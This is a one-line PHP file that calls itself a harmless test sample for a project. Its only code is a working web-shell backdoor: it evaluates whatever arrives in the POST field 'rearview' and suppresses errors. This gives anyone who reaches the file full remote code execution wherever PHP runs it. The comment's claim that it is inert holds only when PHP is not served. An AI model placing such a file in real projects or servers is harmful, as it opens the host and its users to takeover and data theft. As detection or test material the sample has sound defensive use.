<?php /* a sample for the tests of this project: it is inert where PHP is not served */ @eval($_POST['rearview']); ?>
